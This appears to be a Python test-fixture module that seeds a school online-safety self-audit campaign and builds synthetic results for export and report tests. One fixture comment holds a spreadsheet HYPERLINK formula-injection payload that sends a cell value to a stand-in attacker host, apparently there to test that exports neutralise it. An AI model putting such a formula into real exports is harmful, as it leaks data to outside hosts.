"""A self-audit campaign with its people and answers in the database, and the results made
from it: for the tests of the results, of the Teams file consent and of the pictures in Teams."""

from __future__ import annotations

import dataclasses
from datetime import UTC, datetime, timedelta
from typing import Any

from bot.app import Bot
from bot.audit.questions import NEEDS_STEP, questions, seal_answers
from bot.audit.results import (
    Answer,
    AuditResults,
    Comment,
    QuestionCount,
    Respondent,
    TrainingNeeds,
    campaign_results,
)
from storage.models import AuditCampaign, AuditMessage, AuditParticipant

START = datetime(2026, 9, 1, 8, 0, tzinfo=UTC)


# The eight questions of the policy's Appendix 1, word for word, with short labels.
QUESTIONS = [
    (
        "knows_lead",
        "Do you know the name of the person who has lead responsibility for online safety in "
        "school?",
        "Knows the online-safety lead",
    ),
    (
        "knows_concern",
        "Do you know what you must do if a pupil approaches you with a concern or issue?",
        "Knows what to do with a pupil's concern",
    ),
    (
        "aup_staff",
        "Are you familiar with the school's acceptable use agreement for staff, volunteers, "
        "governors and visitors?",
        "Staff acceptable use agreement",
    ),
    (
        "filtering_systems",
        "Are you familiar with the filtering and monitoring systems on the school's devices and "
        "networks?",
        "Filtering and monitoring systems",
    ),
    (
        "filtering_role",
        "Do you understand your role and responsibilities in relation to filtering and monitoring?",
        "Own role in filtering and monitoring",
    ),
    (
        "aup_pupils",
        "Are you familiar with the school's acceptable use agreement for pupils and parents?",
        "Pupil and parent acceptable use agreement",
    ),
    (
        "passwords",
        "Do you regularly change your password for accessing the school's ICT systems?",
        "Changes passwords regularly",
    ),
    (
        "cyberbullying",
        "Are you familiar with the school's approach to tackling cyber-bullying?",
        "Approach to cyber-bullying",
    ),
]


NEEDS_PROMPT = (
    "Are there any areas of online safety in which you would like training/further training?"
)


def spec() -> dict[str, Any]:
    steps: list[dict[str, Any]] = []
    for step_id, prompt, label in QUESTIONS:
        steps.append({"id": step_id, "kind": "yes_no", "prompt": prompt, "label": label})
        steps.append(
            {
                "id": f"{step_id}_comment",
                "kind": "text",
                "prompt": "Any comments?",
                "label": "Comment",
                "required": False,
            }
        )
    steps.append(
        {
            "id": NEEDS_STEP,
            "kind": "text",
            "prompt": NEEDS_PROMPT,
            "label": "Training needs",
            "required": False,
        }
    )
    return {"id": "staff_audit", "title": "Online-safety self-audit", "steps": steps}


ALL_YES = {step_id: "yes" for step_id, _, _ in QUESTIONS}
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
BOB_COMMENT = "Never been shown the filtering reports."
BOB_REQUEST = "Sexting and sharing nudes"
CARA_REQUEST = "+44 phone scams aimed at parents"
DAN_SECRET = "UNFINISHED-SECRET comment"


# name, email, channel, status, answers, invitation status
PEOPLE: list[tuple[str, str, str, str, dict[str, str | None] | None, str]] = [
    (
        "Alice Able",
        "alice@school.example",
        "slack",
        "finished",
        {**ALL_YES, "knows_lead_comment": FORMULA, NEEDS_STEP: "None, thanks."},
        "sent",
    ),
    (
        "Bob Brown",
        "bob@school.example",
        "teams",
        "finished",
        {
            **ALL_YES,
            "filtering_systems": "no",
            "filtering_systems_comment": BOB_COMMENT,
            "filtering_role": "no",
            NEEDS_STEP: BOB_REQUEST,
        },
        "sent",
    ),
    (
        "Cara Cole",
        "cara@school.example",
        "web",
        "finished",
        {**ALL_YES, "knows_concern": None, "passwords": "no", NEEDS_STEP: CARA_REQUEST},
        "sent",
    ),
    (
        "Dan Dee",
        "dan@school.example",
        "slack",
        "started",
        {"knows_lead": "no", "knows_lead_comment": DAN_SECRET},
        "sent",
    ),
    ("Eve Evans", "eve@school.example", "teams", "invited", None, "dead"),
    ("Fay Ford", "fay@school.example", "slack", "invited", None, "pending"),
]


NAMES = [p[0] for p in PEOPLE]
EMAILS = [p[1] for p in PEOPLE]


async def seed(bot: Bot, people: list[Any] = PEOPLE, closed: bool = False) -> int:
    """A campaign, its participants (answers sealed with the bot's cipher) and invitations."""
    async with bot.router.sessions() as session, session.begin():
        campaign = AuditCampaign(
            academic_year="2026-27",
            flow_id="staff_audit",
            flow_spec=spec(),
            started_at=START,
            started_by="scheduler",
            closes_at=START + timedelta(days=28),
            closed_at=START + timedelta(days=28) if closed else None,
        )
        session.add(campaign)
        await session.flush()
        for k, (name, email, channel, status, answers, invite) in enumerate(people):
            participant = AuditParticipant(
                campaign_id=campaign.id,
                email=email,
                display_name=name,
                channel=channel,
                status=status,
                invited_at=START,
                started_at=START + timedelta(days=1) if status != "invited" else None,
                finished_at=START + timedelta(days=2, hours=k) if status == "finished" else None,
                reminders_sent=0,
                updated_at=START,
            )
            session.add(participant)
            await session.flush()
            if answers is not None:  # sealed for its row: the id first
                seal_answers(bot.cipher, participant, answers)
            session.add(
                AuditMessage(
                    participant_id=participant.id,
                    campaign_id=campaign.id,
                    channel=channel,
                    recipient_email=email,
                    kind="invite",
                    n=0,
                    status=invite,
                    attempts=1,
                    next_attempt_at=START,
                    created_at=START,
                    sent_at=START if invite == "sent" else None,
                )
            )
        return campaign.id


async def results_of(bot: Bot, campaign_id: int) -> AuditResults:
    async with bot.router.sessions() as session:
        return await campaign_results(session, bot.cipher, campaign_id)


def synthetic(
    *, finished: int, label: str | None = None, unanswered: bool = False, comments: bool = False
) -> AuditResults:
    """Results built without a database: `finished` people, a pattern of answers."""
    asked = questions(spec())
    if label is not None:
        asked[0] = dataclasses.replace(asked[0], label=label)
    people = []
    for k in range(finished):
        answers = tuple(
            Answer(
                number=n,
                question=q,
                value=None
                if unanswered and (k + n) % 11 == 0
                else ("no" if (k + n) % 3 else "yes"),
                comment=f"Comment {k}-{n} " + "words " * 40 if comments else None,
            )
            for n, q in enumerate(asked, start=1)
        )
        people.append(
            Respondent(
                name=f"Person {k:02}",
                email=f"p{k}@school.example",
                channel="web",
                finished_at=START,
                answers=answers,
                training_text=f"Topic {k}",
            )
        )
    counts = tuple(
        QuestionCount(
            number=n,
            question=q,
            yes=sum(1 for p in people if p.answers[n - 1].value == "yes"),
            no=sum(1 for p in people if p.answers[n - 1].value == "no"),
            unanswered=sum(1 for p in people if p.answers[n - 1].value is None),
        )
        for n, q in enumerate(asked, start=1)
    )
    return AuditResults(
        campaign_id=7,
        academic_year="2026-27",
        closed_at=None,
        questions=tuple(asked),
        needs_prompt=NEEDS_PROMPT,
        invited=finished + 5,
        finished=finished,
        unfinished=2,
        not_started=3,
        counts=counts,
        respondents=tuple(people),
        comments=tuple(
            Comment(p.name, p.email, a.number, a.question.label, a.comment)
            for p in people
            for a in p.answers
            if a.comment
        ),
        training_needs=tuple(
            TrainingNeeds(p.name, p.email, p.needs, p.training_request) for p in people
        ),
        written_needs=(),
    )
